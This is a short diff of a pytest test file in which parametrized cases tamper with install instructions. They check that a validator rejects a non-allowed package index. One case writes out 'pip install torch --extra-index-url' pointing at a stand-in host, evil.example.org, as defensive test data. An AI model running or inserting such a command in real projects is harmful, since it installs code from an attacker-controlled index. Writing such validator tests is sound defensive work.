@@ -367,7 +367,7 @@ EVIL = "https://evil.example.org/simple"
 @pytest.mark.parametrize("changes,match", [
     ({"torch": lambda t: t.replace("https://download.pytorch.org/whl/cu124", EVIL)},
      "not an allowed package index"),
-    ({"errors": lambda t: t.replace("pip install torch --index-url https://download.pytorch.org/whl/cu124",
+    ({"errors": lambda t: t.replace("{{pip torch index=cu124}}",  # the fix as data, back to free shell text
                                     f"pip install torch --extra-index-url {EVIL}")},
      "not an allowed package index"),
     ({"cuda": lambda t: t.replace('min_driver_linux = "525.60.13"', 'min_driver_linux = "100.00.00"')},
